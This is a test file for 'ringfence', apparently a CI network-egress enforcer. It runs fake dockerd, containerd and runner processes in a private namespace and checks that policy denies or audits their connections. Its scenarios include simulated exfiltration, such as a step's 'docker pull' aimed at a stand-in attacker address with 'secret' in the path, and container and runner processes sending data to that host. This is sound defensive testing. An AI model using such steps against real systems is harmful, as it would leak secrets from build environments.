/**
 * `ringfence start` with the container runtime and the runner as scope
 * roots, on the real kernel. Stand-ins, copies of python3 named like the
 * real processes (so their comm is the root's name), run before the agent
 * starts, in a network namespace of the test's own where the attacker and
 * the runner's service listen:
 *
 * - `dockerd` connects where a step's `docker pull` names (the request
 *   comes through a FIFO, as `docker` talks to dockerd over a socket);
 * - `containerd` starts a `containerd-shim-runc-v2` whose child is the
 *   container's process;
 * - `Runner.Worker` connects to its service and starts the steps.
 */
import assert from "node:assert/strict";
import type { NetworkEvent } from "../sensors/network.ts";
import type { RingfenceEvent } from "../sensors/events.ts";
import { FAKE_ROOT, FakeRoot, LineReader } from "./helpers/fake_root.ts";
import { kernelTest, readJsonLines, startAgent } from "./helpers/kernel.ts";
import { PROBE, TestNetns } from "./helpers/net_harness.ts";

/** The attacker: nothing lists it. */
const ATTACKER = "10.66.0.1";
/** The runner's service: only scope.runner.allow lists it. */
const SERVICE = "10.66.0.2";
const PORT = "8443";
const EPERM = "errno 1";

/** A docker client: asks the runtime ($RF_LINE into $RF_FIFO), then
 * stays until the test says the runtime is done ($RF_DONE appears). */
const DOCKER = `#!/usr/bin/python3
import os, sys, time
with open(os.environ["RF_FIFO"], "w") as fifo:
    fifo.write(os.environ["RF_LINE"].replace("+", " ") + "\\n")
for _ in range(500):
    if os.path.exists(os.environ["RF_DONE"]):
        break
    time.sleep(0.02)
`;

/** A runtime's shim: runs its arguments as the container's process. */
const SHIM = `import subprocess, sys
sys.exit(subprocess.run(sys.argv[1:]).returncode)
`;

interface Job {
  dir: string;
  netns: TestNetns;
  runner: FakeRoot;
  dockerd: LineReader;
  containerd: LineReader;
  /** What reached the attacker's and the service's listeners. */
  sinks: { attacker: string; service: string };
}

/** Copies python3 under `name`, so a process started from it has that comm. */
async function python(dir: string, name: string): Promise<string> {
  const path = `${dir}/${name}`;
  await Deno.copyFile("/usr/bin/python3", path);
  await Deno.chmod(path, 0o755);
  return path;
}

/** Starts `command` in the namespace, its stdout piped. */
function startIn(
  netns: TestNetns,
  command: string[],
  children: Deno.ChildProcess[],
  stdin: "null" | "piped" = "null",
): Deno.ChildProcess {
  const child = new Deno.Command(netns.exec(command)[0], {
    args: netns.exec(command).slice(1),
    stdin,
    stdout: "piped",
    stderr: "null",
  }).spawn();
  children.push(child);
  return child;
}

/**
 * The namespace, the listeners, the three fake roots, then `ringfence
 * start` with `policy`; `fn` runs the job, and gets the events after stop.
 */
async function withJob(
  mode: "audit" | "block",
  fn: (job: Job) => Promise<void>,
): Promise<RingfenceEvent[]> {
  const dir = await Deno.makeTempDir();
  const netns = await TestNetns.create([
    ["addr", "add", `${ATTACKER}/32`, "dev", "lo"],
    ["addr", "add", `${SERVICE}/32`, "dev", "lo"],
  ]);
  const children: Deno.ChildProcess[] = [];
  const readers: LineReader[] = [];
  let runner: FakeRoot | undefined;
  try {
    await Deno.writeTextFile(`${dir}/docker`, DOCKER, { mode: 0o755 });
    await Deno.writeTextFile(`${dir}/shim.py`, SHIM);
    await python(dir, "containerd-shim-runc-v2");
    const sinks = {
      attacker: `${dir}/attacker.log`,
      service: `${dir}/service.log`,
    };
    for (
      const [host, log] of [[ATTACKER, sinks.attacker], [
        SERVICE,
        sinks.service,
      ]]
    ) {
      await Deno.writeTextFile(log, "");
      const sink = startIn(netns, [
        "python3",
        PROBE,
        "sink",
        host,
        PORT,
        log,
      ], children);
      const reader = new LineReader(sink);
      readers.push(reader);
      assert.equal(await reader.line(), "ready");
    }
    const fifos: Record<string, LineReader> = {};
    for (const name of ["dockerd", "containerd"]) {
      const fifo = `${dir}/${name}.fifo`;
      const made = await new Deno.Command("mkfifo", { args: [fifo] }).output();
      assert.ok(made.success);
      const root = startIn(netns, [
        await python(dir, name),
        FAKE_ROOT,
        fifo,
      ], children);
      const reader = new LineReader(root);
      readers.push(reader);
      assert.equal(await reader.line(), "ready");
      fifos[name] = reader;
    }
    runner = new FakeRoot(
      startIn(
        netns,
        [await python(dir, "Runner.Worker"), FAKE_ROOT],
        children,
        "piped",
      ),
    );
    await runner.ready();

    const policy = `${dir}/policy.yaml`;
    await Deno.writeTextFile(
      policy,
      `version: 1
mode: ${mode}
scope:
  processes: [Runner.Worker, containerd, dockerd]
  runner:
    processes: [Runner.Worker]
    allow: ["${SERVICE}:${PORT}"]
network:
  allow: []
`,
    );
    const output = `${dir}/events.jsonl`;
    const agent = await startAgent(["--policy", policy, "--output", output]);
    let stopped;
    try {
      await fn({
        dir,
        netns,
        runner,
        dockerd: fifos.dockerd,
        containerd: fifos.containerd,
        sinks,
      });
    } finally {
      stopped = await agent.stop();
    }
    assert.equal(stopped.code, 0, stopped.stderr);
    return await readJsonLines<RingfenceEvent>(output);
  } finally {
    await runner?.close();
    for (const child of children) {
      try {
        child.kill("SIGKILL");
      } catch { /* gone */ }
      await child.status;
    }
    for (const reader of readers) await reader.cancel();
    await netns.close();
    await Deno.remove(dir, { recursive: true });
  }
}

/**
 * The step `name` (GITHUB_ACTION) runs `docker VERB...`, which sends
 * `line` to the runtime behind `fifo`; returns what the runtime printed.
 */
async function dockerStep(
  job: Job,
  name: string,
  runtime: "dockerd" | "containerd",
  line: string,
  verb: string[],
): Promise<string[]> {
  const done = `${job.dir}/${name}.done`;
  const spawned = await job.runner.run(
    "spawn",
    "/usr/bin/env",
    `GITHUB_ACTION=${name}`,
    `RF_FIFO=${job.dir}/${runtime}.fifo`,
    // fake_root.py splits its commands at whitespace: "+" stands for it.
    `RF_LINE=${line.replaceAll(" ", "+")}`,
    `RF_DONE=${done}`,
    `${job.dir}/docker`,
    ...verb,
  );
  assert.match(spawned[0], /^pid \d+$/);
  const answer = await (runtime === "dockerd" ? job.dockerd : job.containerd)
    .untilDone();
  // `docker run` stays attached while the container runs.
  await new Promise((resolve) => setTimeout(resolve, 1000));
  await Deno.writeTextFile(done, "");
  return answer;
}

function connectsTo(events: RingfenceEvent[], daddr: string): NetworkEvent[] {
  return events.filter((event): event is NetworkEvent =>
    event.type === "network_event" && event.kind === "connect" &&
    event.daddr === daddr
  );
}

kernelTest(
  "containers, block mode: dockerd is policed, the runner only for its hosts",
  async () => {
    let dockerdPid = 0, shimPid = 0, stepPid = 0;
    const events = await withJob("block", async (job) => {
      // (a) a step's `docker pull ATTACKER:PORT/secret/img` makes dockerd
      // connect to the attacker.
      const pulled = await dockerStep(
        job,
        "pull-step",
        "dockerd",
        `self tcpsend ${ATTACKER} ${PORT} secret-in-path`,
        ["pull", `${ATTACKER}:${PORT}/secret/img`],
      );
      assert.deepEqual(pulled, [EPERM]);

      // (b) the runner reaches its service, and nothing else.
      assert.deepEqual(
        await job.runner.run("self", "tcpsend", SERVICE, PORT, "job-log"),
        ["ok"],
      );
      assert.deepEqual(
        await job.runner.run("self", "tcpsend", ATTACKER, PORT, "runner"),
        [EPERM],
      );

      // (c) a step (the runner's child) may not use the runner's service.
      const step = await job.runner.run(
        "child",
        "tcpsend",
        SERVICE,
        PORT,
        "step-data",
      );
      assert.equal(step[1], EPERM, step.join("\n"));
      stepPid = Number(step[0].split(" ")[1]);

      // (d) `docker run` makes containerd start a shim, whose child (the
      // container's process) connects out.
      const ran = await dockerStep(
        job,
        "run-step",
        "containerd",
        `spawn ${job.dir}/containerd-shim-runc-v2 ${job.dir}/shim.py ` +
          `python3 ${PROBE} tcpsend ${ATTACKER} ${PORT} container`,
        ["run", "--rm", "alpine"],
      );
      shimPid = Number(ran[0].split(" ")[1]);

      const attacker = await Deno.readTextFile(job.sinks.attacker);
      assert.equal(attacker, "", "nothing reached the attacker");
      const service = await Deno.readTextFile(job.sinks.service);
      assert.match(service, /^connection\nbytes 7\n$/, "only the runner's");
    });

    // (a) the refusal names dockerd and the step that ran `docker pull`.
    const pull = connectsTo(events, ATTACKER).filter((event) =>
      event.comm === "dockerd"
    );
    assert.equal(pull.length, 1, JSON.stringify(events, null, 1));
    dockerdPid = pull[0].pid;
    assert.equal(pull[0].verdict, "deny");
    assert.equal(pull[0].reason, "not_in_allow_list");
    assert.equal(pull[0].killed, undefined);
    assert.equal(pull[0].step?.name, "pull-step");

    // (b) the runner: its service allowed as exempt_root; the rest refused.
    const runnerEvents = (daddr: string) =>
      connectsTo(events, daddr).filter((event) =>
        event.comm === "Runner.Worker"
      );
    const [service] = runnerEvents(SERVICE);
    assert.equal(service?.verdict, "allow");
    assert.equal(service?.reason, "exempt_root");
    const [outside] = runnerEvents(ATTACKER);
    assert.equal(outside?.verdict, "deny");
    assert.equal(outside?.reason, "exempt_root_outside_list");

    // (c) the step: refused, not in the allow list.
    const [stepEvent] = connectsTo(events, SERVICE).filter((event) =>
      event.pid === stepPid
    );
    assert.equal(stepEvent?.verdict, "deny");
    assert.equal(stepEvent?.reason, "not_in_allow_list");

    // (d) the container's process: the step of `docker run`, not the shim.
    const [container] = connectsTo(events, ATTACKER).filter((event) =>
      event.ppid === shimPid
    );
    assert.ok(container, JSON.stringify(events, null, 1));
    assert.equal(container.verdict, "deny");
    assert.equal(container.step?.name, "run-step");
    assert.notEqual(container.pid, dockerdPid);
  },
);

kernelTest(
  "containers, audit mode: the runner outside its lists is reported",
  async () => {
    const events = await withJob("audit", async (job) => {
      assert.deepEqual(
        await job.runner.run("self", "tcpsend", ATTACKER, PORT, "runner"),
        ["ok"],
      );
    });
    const [outside] = connectsTo(events, ATTACKER);
    assert.equal(outside?.comm, "Runner.Worker");
    assert.equal(outside?.verdict, "audit");
    assert.equal(outside?.reason, "exempt_root_outside_list");
  },
);
